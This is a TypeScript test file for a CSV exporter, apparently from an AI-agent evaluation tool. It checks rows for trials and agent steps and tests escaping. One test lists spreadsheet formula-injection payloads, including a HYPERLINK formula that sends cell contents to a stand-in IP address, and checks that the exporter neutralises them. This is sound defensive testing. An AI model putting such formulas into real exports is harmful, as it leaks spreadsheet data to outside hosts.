import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvExporter } from '../../../src/core/exporters/csv.ts';
import { exported, sampleSource } from './sources.ts';

type Row = Readonly<Record<string, string>>;

const read = (text: string | undefined): Row[] => parse(text ?? '', { columns: true });

describe('CSV', () => {
  it('has a row for each trial, and a column for each milestone and flag', async () => {
    const files = await exported(
      csvExporter,
      sampleSource([
        { verdict: 'success', milestones: ['looked'], steps: 3 },
        { verdict: 'failure', flags: ['scans', 'scans'], seed: 42, reason: 'It said: "I am done",\nand stopped.' },
        { verdict: undefined },
      ]),
    );
    const rows = read(files.get('trials.csv'));
    assert.deepEqual(
      rows.map((row) => [row['trial'], row['verdict'], row['steps'], row['milestone:looked'], row['flag:scans']]),
      [
        ['trial-001', 'success', '3', '1', '0'],
        ['trial-002', 'failure', '2', '', '2'],
        ['trial-003', 'interrupted', '2', '', '0'],
      ],
    );
    assert.equal(rows[1]?.['reason'], 'It said: "I am done",\nand stopped.');
    assert.equal(rows[1]?.['seed'], '42');
    assert.equal(rows[0]?.['machine_seconds'], '180');
  });

  it('has a column for each judge, and tells how many agents there were', async () => {
    const files = await exported(csvExporter, sampleSource([{ grade: 2 }, { grade: null }, {}]));
    assert.deepEqual(
      read(files.get('trials.csv')).map((row) => [row['judge:honest'], row['agents'], row['generations']]),
      [
        ['2', '1', '0'],
        ['', '1', '0'],
        ['', '1', '0'],
      ],
    );
  });

  it('has a row for each action with what it did', async () => {
    const stdout = 'one, "two"\nthree\r\n';
    const files = await exported(
      csvExporter,
      sampleSource([{ steps: 2, stdout, milestones: ['looked'], command: 'cat a.txt' }]),
    );
    const rows = read(files.get('steps.csv'));
    assert.deepEqual(
      rows.map((row) => [row['step'], row['tool'], row['status'], row['exit_code'], row['machine_seconds']]),
      [
        ['1', 'shell', 'done', '0', '60'],
        ['2', 'shell', 'done', '0', '120'],
      ],
    );
    assert.deepEqual(JSON.parse(rows[0]?.['arguments'] ?? ''), { command: 'cat a.txt' });
    assert.equal(rows[0]?.['stdout'], stdout);
    assert.deepEqual(
      rows.map((row) => [row['milestones'], row['input_tokens'], row['thought']]),
      [
        ['looked', '100', 'thought: I look around.'],
        ['', '100', 'thought: I look around.'],
      ],
    );
  });

  it('has only a header when there are no trials', async () => {
    const files = await exported(csvExporter, sampleSource([]));
    assert.deepEqual(
      [...files.values()].map((text) => text.trimEnd().split('\n').length),
      [1, 1],
    );
  });

  it('cannot make a spreadsheet run what an agent printed', async () => {
    const attacks = ['=HYPERLINK("http://198.51.100.1/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '\uFF1D1+1'];
    for (const attack of attacks) {
      const files = await exported(csvExporter, sampleSource([{ stdout: attack, steps: 1, reason: attack }]));
      assert.equal(read(files.get('steps.csv'))[0]?.['stdout'], `'${attack}`);
      assert.equal(read(files.get('trials.csv'))[0]?.['reason'], `'${attack}`);
    }
    assert.equal(csvCell(-3), '-3', 'a number stays one');
  });

  it('gives any text back, apart from the apostrophe', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', minLength: 1 }), async (stdout) => {
        const files = await exported(csvExporter, sampleSource([{ stdout, steps: 1 }]));
        const [row, ...others] = read(files.get('steps.csv'));
        assert.equal(others.length, 0);
        assert.equal(row?.['stdout'], csvCell(stdout));
      }),
    );
  });
});
